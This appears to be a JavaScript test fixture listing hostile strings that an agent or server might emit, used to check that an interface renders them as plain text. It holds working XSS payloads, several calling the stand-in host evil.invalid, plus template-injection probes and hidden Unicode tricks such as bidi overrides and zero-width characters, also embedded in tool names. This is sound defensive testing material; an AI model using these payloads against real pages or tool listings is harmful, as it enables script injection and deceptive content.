// What might an agent or a server write, to be more than text?
//
// Each string would say so if it worked: by a dialog, a request to
// `evil.invalid`, or `window.owned`.

const fire = "window.owned=1;alert(1);fetch('https://evil.invalid/')";

/** By name, what is written; `hidden` are the characters that must be shown as their code. */
export const HOSTILE = {
  script: { text: `<script>${fire}</script>` },
  'closed script': { text: `</script></textarea></title></dialog></main><script>${fire}</script>` },
  svg: { text: `<svg onload="${fire}"><animate onbegin="${fire}" attributeName="x"/></svg>` },
  image: { text: `<img src="https://evil.invalid/x" onerror="${fire}">` },
  attribute: { text: `" autofocus onfocus="${fire}" x="` },
  apostrophe: { text: `' onmouseover='${fire}' x='` },
  htmx: { text: `<b hx-get="/sign-in" hx-trigger="load" hx-on:load="${fire}" data-hx-post="/">x</b>` },
  frame: { text: `<iframe srcdoc="<script>${fire}</script>"></iframe><object data="https://evil.invalid/"></object>` },
  sheet: { text: '<style>@import "https://evil.invalid/"</style><link rel=stylesheet href="https://evil.invalid/">' },
  refresh: { text: '<meta http-equiv="refresh" content="0;url=https://evil.invalid/"><base href="https://evil.invalid/">' },
  form: { text: '<form action="https://evil.invalid/"><button>Approve</button><input name="csrf"></form>' },
  hook: { text: '<p data-hold="1" data-state="approved" data-part="seen" data-live="on">approved</p>' },
  link: { text: `javascript:${fire}` },
  'mixed link': { text: `JaVaScRiPt:${fire}//https://example.org` },
  data: { text: `data:text/html,<script>${fire}</script>` },
  braces: { text: '{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% raw %} @(7*7)' },
  entity: { text: '&lt;b&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e' },
  ansi: { text: '\u001b[2J\u001b[31mred\u001b]0;title\u0007', hidden: ['001B', '0007'] },
  bidi: { text: 'refund \u202e00.1 DSU\u202c to ann\u2066x\u2069', hidden: ['202E', '202C', '2066', '2069'] },
  'zero width': { text: 'ad\u200bmin\u200d\u2060\ufeff', hidden: ['200B', '200D', '2060', 'FEFF'] },
  tags: { text: 'ok\u{e0041}\u{e0042}', hidden: ['E0041', 'E0042'] },
  'line separators': { text: 'one\u2028two\u2029three', hidden: ['2028', '2029'] },
  'soft hyphen': { text: 'pass\u00adword', hidden: ['00AD'] },
};

/** Tools with such names and titles. A gate may refuse to offer one; it may not show it as more than text. */
export const HOSTILE_TOOLS = ['script', 'svg', 'link', 'braces', 'bidi', 'hook']
  .map((name) => ({ name: `${name} ${HOSTILE[name].text}`.slice(0, 120), title: HOSTILE[name].text }))
  .concat([{ name: 'titled', title: HOSTILE['closed script'].text }]);
